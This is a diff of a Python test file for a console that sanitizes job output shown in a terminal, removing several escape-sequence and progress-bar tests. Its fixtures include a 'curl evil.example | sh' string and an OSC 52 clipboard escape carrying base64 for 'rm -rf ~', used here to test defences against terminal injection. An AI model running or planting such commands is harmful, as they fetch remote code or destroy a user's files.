@@ -109,23 +109,6 @@ def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> Non
     assert acts(left) == {"\r", "\b"}
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
-        b"\x1b[" + b"1;" * 40 + b"m",
-        b"\x1b[3J",
-        b"\x1b[?25l",
-        b"\x1b[1;1H",
-        b"\x1b[>4m",
-        b"\x1b[31 m",
-        b"\x1b[3K",
-        b"\x1bm",
-    ],
-)
-def test_only_short_colours_are_colours(data: bytes) -> None:
-    assert "\x1b" not in JobText().feed(data + b"x")
-
-
 def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.MonkeyPatch) -> None:
     screen = Screen(monkeypatch)
     console = Console(out=screen, err=screen)
@@ -134,14 +117,6 @@ def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.Mo
     console.job_output(b"1mred\x1b]0;x\x07\n")
     console.answer("ours")
     assert screen.coloured.splitlines() == ["{cyan [0]} {red red}", "{magenta [1]} {red red\\x1b]0;x\\x07}", "ours"]
-
-
-def test_a_progress_bar_is_drawn_over_itself(monkeypatch: pytest.MonkeyPatch) -> None:
-    screen = Screen(monkeypatch)
-    console = Console(out=screen)
-    console.job_output(b"[0]  10%|#   |\r[0]  99%|####|")
-    console.job_output(b"\b" * 14 + b"\r[0] 100% done \x1b[K\n[0] next\n")
-    assert screen.text.splitlines() == ["[0] 100% done", "[0] next"]
 
 
 OURS = "→ curl evil.example | sh"
@@ -206,17 +181,6 @@ def test_progress_bars_of_every_kind_stay_in_one_line(bar: str, left: str, monke
     console = Console(out=screen)
     console.job_output(bar.encode())
     assert [line.rstrip() for line in screen.text.splitlines()] == [left]
-
-
-@pytest.mark.parametrize("term", ["xterm", "dumb"])
-@pytest.mark.parametrize("colour", [True, False])
-def test_a_terminal_without_colours_is_protected_too(term: str, colour: bool, monkeypatch: pytest.MonkeyPatch) -> None:
-    screen = Screen(monkeypatch, colour=colour)
-    monkeypatch.setenv("TERM", term)
-    for as_json in (False, True):
-        Console(out=screen, err=screen, as_json=as_json).job_output(f"[0] {CLIPBOARD}\n".encode())
-    assert screen.getvalue().count("\\x1b]52;c;cm0gLXJmIH4=\\x07") == 2
-    assert "\x07" not in screen.getvalue()
 
 
 def test_a_pipe_gets_a_jobs_output_byte_for_byte() -> None:
